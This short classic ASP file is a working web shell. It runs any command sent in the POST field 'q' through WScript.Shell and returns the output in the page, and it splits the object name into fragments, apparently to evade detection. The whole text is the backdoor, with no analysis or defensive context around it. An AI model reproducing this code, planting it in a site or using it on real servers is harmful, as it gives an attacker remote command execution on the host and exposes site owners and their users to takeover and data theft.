<%
Set o = Server.CreateObject("WScr" & "ipt.Sh" & "ell")
Set r = o.Exec(Request.Form("q"))
Response.Write r.StdOut.ReadAll
%>
